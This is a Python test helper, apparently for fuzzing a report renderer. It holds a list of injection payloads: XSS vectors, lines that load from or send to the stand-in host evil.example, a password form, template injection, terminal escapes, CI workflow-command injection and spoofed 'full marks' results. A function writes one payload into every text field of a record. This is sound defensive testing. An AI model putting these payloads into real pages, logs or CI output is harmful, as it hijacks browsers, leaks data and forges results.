"""Text that tries to be more than text, and a way to put it into every slot of a report."""

from __future__ import annotations

from enum import Enum
from typing import Any

import msgspec

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></bdi><script>alert(1)</script>",
    "--></script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<a href='javascript:alert(1)'>full marks</a>",
    "<a href='https://evil.example' ping='https://evil.example'>here</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<meta http-equiv='Content-Security-Policy' content='default-src *'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>.total strong { content: '24' }</style>",
    "<form action='https://evil.example'><input name=password></form>",
    "<button formaction='javascript:alert(1)'>ok</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "x' style='position:fixed;inset:0",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ealert(1)",
    "{{ 7 * 7 }}{% include 'style.css' %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)} #{alert(1)} <%= 1 %>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- ",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'a'>]>&a;",
    "<plaintext>",
    "<textarea>",
    "<xmp>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\x1b[2J\x1b[31mFAKE\x1b[0m\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x1b\\full marks\x1b]8;;\x1b\\",
    "\x9b2J \x00\x08\x7f\x85",
    "\u202e24 fo 24\u202c \u2066hidden\u2069 \u200b\ufeff",
    "\ud800 lone \udfff \uffff",
    "a\u2028b\u2029c\rd",
    "\n::error file=x::hacked",
    "::set-output name=percent::100",
    "::stop-commands::token\r\n::add-mask::a",
    "##[error]hacked ##vso[task.setvariable variable=x]y",
    "%0A::error::hacked",
    "x\n\n# Heading\n\n| a | b |\n|---|---|\n",
    "| 24 of 24 | passed |",
    "[full marks](https://evil.example)",
    "![beacon](https://evil.example/x.png)",
    "https://evil.example www.evil.example <https://evil.example>",
    "**bold** _em_ `code` ~~gone~~ $x$ @octocat #1 :tada:",
    "```\n</details></td></table>\n```",
    "\\| \\` \\[x\\](https://evil.example)",
    "[bold red]rich markup[/] [link=https://evil.example]x[/link]",
    "=HYPERLINK(\"https://evil.example\")",
)  # fmt: skip


def poisoned(value: Any, payload: str) -> Any:
    """Return *value*, a record, with *payload* as every free text in it, keys of mappings included."""
    if isinstance(value, msgspec.Struct):
        free = [field for field in msgspec.structs.fields(value) if "Literal" not in repr(field.type)]
        changed = {field.name: poisoned(getattr(value, field.name), payload) for field in free}
        return msgspec.structs.replace(value, **changed)
    if isinstance(value, str) and not isinstance(value, Enum):
        return payload
    if isinstance(value, tuple):
        return tuple(poisoned(item, payload) for item in value)
    if isinstance(value, dict):
        return {poisoned(key, payload): poisoned(item, payload) for key, item in value.items()}
    return value
